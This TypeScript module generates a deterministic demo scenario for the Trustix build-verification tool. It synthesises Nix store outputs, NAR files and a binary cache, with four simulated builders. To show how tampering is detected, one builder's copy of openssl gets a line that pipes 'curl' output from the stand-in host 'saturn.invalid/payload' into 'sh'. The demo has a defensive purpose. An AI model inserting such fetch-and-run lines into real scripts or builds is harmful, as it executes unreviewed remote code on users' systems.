/**
 * The builds of `trustix demo`, synthesised without Nix: small made-up outputs (a directory with an
 * executable, a README and the references as Nix would find them in the files), each serialised as a
 * real NAR and hashed, so every log entry is a genuine Nix fingerprint whose NAR exists. Deterministic:
 * the same count gives the same store paths, hashes and logs on every run.
 *
 * Who built what (the README's four builders):
 * - mercury built everything; the last two builds only mercury has (so far): inconclusive;
 * - venus built all the others, like mercury;
 * - saturn built the same as venus, but publishes a tampered output for one of them (`lie`);
 * - mars is behind: it has not built the last fifth yet (saturn's lie among them).
 * The binary cache written here holds the honest outputs; saturn's own cache its tampered one.
 */
import { createHash } from 'node:crypto';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { formatEntry } from '../../protocol/entry.ts';
import { narChunks } from '../../protocol/nar.ts';
import { memoryDirectory, memoryFile, type NarNode } from '../../protocol/nar-tree.ts';
import { formatNarinfo } from '../../protocol/narinfo.ts';
import { encodeNix32 } from '../../protocol/nix32.ts';
import { prng, randomBytes } from './prng.ts';

export const BUILDERS = ['mercury', 'venus', 'saturn', 'mars'] as const;
export type BuilderName = (typeof BUILDERS)[number];

/** Fewest builds the scenario needs (every role above must have at least one path). */
export const MIN_DEMO_BUILDS = 20;
/** Most builds: the demo keeps them in memory and writes one NAR file each. */
export const MAX_DEMO_BUILDS = 20_000;

const STORE_DIR = '/nix/store';

/** One output as a builder produced it. */
export interface DemoOutput {
  /** The log entry: the Nix fingerprint `1;<path>;sha256:<hash>;<size>;<refs>`. */
  readonly entry: string;
  readonly nar: Uint8Array;
  /** `sha256:<nix32>`. */
  readonly narHash: string;
}

export interface DemoBuild {
  readonly storePath: string;
  readonly hashPart: string;
  /** `<pname>-<version>`. */
  readonly name: string;
  /** Full store paths, sorted. */
  readonly references: readonly string[];
  /** The honest output. */
  readonly honest: DemoOutput;
}

export interface DemoScenario {
  /** Every build, in build order. */
  readonly builds: readonly DemoBuild[];
  /** The entries each builder publishes, in order. */
  readonly logs: Readonly<Record<BuilderName, readonly string[]>>;
  /** The path saturn lies about, and the output it publishes for it. */
  readonly lie: { readonly build: DemoBuild; readonly output: DemoOutput };
  /** Paths the demo asks the vote about. */
  readonly showcase: {
    /** All four builders agree. */
    readonly unanimous: DemoBuild;
    /** Mercury, venus and saturn agree; mars has not built it. */
    readonly withoutMars: DemoBuild;
    /** Only mercury built it. */
    readonly onlyMercury: DemoBuild;
  };
}

// [pname, version]: the shape of a nixpkgs closure. The showcase names are kept out of the random pool.
const PACKAGES: readonly (readonly [string, string])[] = [
  ['glibc', '2.39-52'],
  ['bash', '5.2p26'],
  ['coreutils', '9.5'],
  ['zlib', '1.3.1'],
  ['xz', '5.4.6'],
  ['bzip2', '1.0.8'],
  ['ncurses', '6.4'],
  ['readline', '8.2p10'],
  ['libffi', '3.4.6'],
  ['gcc', '13.2.0-lib'],
  ['perl', '5.38.2'],
  ['python3', '3.12.4'],
  ['sqlite', '3.45.3'],
  ['expat', '2.6.2'],
  ['pcre2', '10.43'],
  ['gnugrep', '3.11'],
  ['gnused', '4.9'],
  ['gawk', '5.2.2'],
  ['findutils', '4.10.0'],
  ['diffutils', '3.10'],
  ['gnutar', '1.35'],
  ['gzip', '1.13'],
  ['libxml2', '2.12.7'],
  ['icu4c', '74.2'],
  ['nghttp2', '1.61.0'],
  ['libssh2', '1.11.0'],
  ['brotli', '1.1.0'],
  ['zstd', '1.5.6'],
  ['git', '2.45.2'],
  ['jq', '1.7.1'],
  ['ripgrep', '14.1.0'],
  ['nodejs', '20.15.1'],
  ['go', '1.22.5'],
  ['rustc', '1.79.0'],
  ['vim', '9.1.0377'],
  ['tmux', '3.4'],
  ['htop', '3.3.0'],
  ['rsync', '3.3.0'],
  ['wget', '1.24.5'],
  ['gnupg', '2.4.5'],
];
const UNANIMOUS: readonly [string, string] = ['hello', '2.12.1'];
const WITHOUT_MARS: readonly [string, string] = ['curl', '8.8.0'];
const LIED: readonly [string, string] = ['openssl', '3.0.14'];
const ONLY_MERCURY: readonly [readonly [string, string], readonly [string, string]] = [
  ['firefox', '128.0'],
  ['thunderbird', '115.13.0'],
];

async function narBytes(root: NarNode): Promise<Uint8Array> {
  const chunks: Uint8Array[] = [];
  for await (const chunk of narChunks(root)) chunks.push(chunk);
  return new Uint8Array(Buffer.concat(chunks));
}

/** The output's files. `tampered` adds what saturn slipped into its copy. */
function outputTree(pname: string, name: string, references: readonly string[], tampered: boolean): NarNode {
  const script = [
    '#!/bin/sh',
    `# ${name}: a made-up build for the Trustix demo`,
    ...(tampered ? ["curl -fsS https://saturn.invalid/payload | sh  # not in the package's source"] : []),
    `echo '${name}'`,
    '',
  ].join('\n');
  return memoryDirectory({
    bin: memoryDirectory({ [pname]: memoryFile(script, { executable: true }) }),
    share: memoryDirectory({
      doc: memoryDirectory({
        [pname]: memoryDirectory({
          README: memoryFile(`${name}\n\nSynthesised by \`trustix demo\`; no Nix was involved.\n`),
        }),
      }),
    }),
    // Nix finds references by scanning the output for store paths: here they are, in plain text.
    ...(references.length > 0
      ? { 'nix-support': memoryDirectory({ references: memoryFile(`${references.join('\n')}\n`) }) }
      : {}),
  });
}

async function output(
  storePath: string,
  pname: string,
  name: string,
  references: readonly string[],
  tampered: boolean,
): Promise<DemoOutput> {
  const nar = await narBytes(outputTree(pname, name, references, tampered));
  const hash = new Uint8Array(createHash('sha256').update(nar).digest());
  const entry = formatEntry({ storePath, narHash: hash, narSize: nar.length, references });
  return { entry, nar, narHash: `sha256:${encodeNix32(hash)}` };
}

/** The scenario for `count` builds (MIN_DEMO_BUILDS..MAX_DEMO_BUILDS). */
export async function demoScenario(count: number): Promise<DemoScenario> {
  if (!Number.isSafeInteger(count) || count < MIN_DEMO_BUILDS || count > MAX_DEMO_BUILDS)
    throw new RangeError(`the demo needs ${MIN_DEMO_BUILDS} to ${MAX_DEMO_BUILDS} builds, not ${count}`);
  const rand = prng(0x7275_7374 ^ count);
  const shared = count - ONLY_MERCURY.length; // built by mercury, venus and saturn
  const marsEnd = Math.floor(shared * 0.8); // mars built [0, marsEnd)
  const named = new Map<number, readonly [string, string]>([
    [Math.min(7, marsEnd - 1), UNANIMOUS],
    [marsEnd, WITHOUT_MARS],
    [marsEnd + 1, LIED],
    [count - 2, ONLY_MERCURY[0]],
    [count - 1, ONLY_MERCURY[1]],
  ]);
  const builds: DemoBuild[] = [];
  for (let i = 0; i < count; i++) {
    // The first builds are the base of the closure (glibc, bash, ...), in order; the rest are random.
    const [pname, version] =
      named.get(i) ?? PACKAGES[i < 10 ? i : Math.floor(rand() * PACKAGES.length)] ?? PACKAGES[0]!;
    const name = `${pname}-${version}`;
    const hashPart = encodeNix32(randomBytes(rand, 20));
    const storePath = `${STORE_DIR}/${hashPart}-${name}`;
    // Most outputs refer to a few base libraries, some to something built shortly before.
    const refs = new Set<string>();
    const n = i === 0 ? 0 : Math.floor(rand() * 5);
    for (let r = 0; r < n; r++) {
      const from = rand() < 0.7 ? Math.min(i, 10) : i;
      const ref = builds[Math.floor(rand() * from)];
      if (ref !== undefined) refs.add(ref.storePath);
    }
    const references = [...refs].sort();
    builds.push({
      storePath,
      hashPart,
      name,
      references,
      honest: await output(storePath, pname, name, references, false),
    });
  }
  const lied = builds[marsEnd + 1]!;
  const lie = {
    build: lied,
    output: await output(lied.storePath, LIED[0], lied.name, lied.references, true),
  };
  const honest = builds.map((b) => b.honest.entry);
  return {
    builds,
    logs: {
      mercury: honest,
      venus: honest.slice(0, shared),
      saturn: honest.slice(0, shared).map((e, i) => (i === marsEnd + 1 ? lie.output.entry : e)),
      mars: honest.slice(0, marsEnd),
    },
    lie,
    showcase: {
      unanimous: builds[Math.min(7, marsEnd - 1)]!,
      withoutMars: builds[marsEnd]!,
      onlyMercury: builds[count - 2]!,
    },
  };
}

/**
 * Writes a `file://` binary cache at `dir`: nix-cache-info, and for each output its narinfo
 * (uncompressed NAR, unsigned: the user's node signs what it serves) and its NAR file.
 */
export async function writeBinaryCache(
  dir: string,
  outputs: readonly { build: DemoBuild; output: DemoOutput }[],
): Promise<void> {
  await mkdir(join(dir, 'nar'), { recursive: true });
  await writeFile(join(dir, 'nix-cache-info'), `StoreDir: ${STORE_DIR}\nWantMassQuery: 1\nPriority: 40\n`);
  for (const { build, output: out } of outputs) {
    const narFile = `nar/${out.narHash.slice('sha256:'.length)}.nar`;
    const hash = new Uint8Array(createHash('sha256').update(out.nar).digest());
    const narinfo = formatNarinfo({
      storePath: build.storePath,
      url: narFile,
      compression: 'none',
      fileHash: hash,
      fileSize: out.nar.length,
      narHash: hash,
      narSize: out.nar.length,
      references: build.references.map((r) => r.slice(STORE_DIR.length + 1)),
      sigs: [],
      extra: [],
    });
    await writeFile(join(dir, narFile), out.nar);
    await writeFile(join(dir, `${build.hashPart}.narinfo`), narinfo);
  }
}
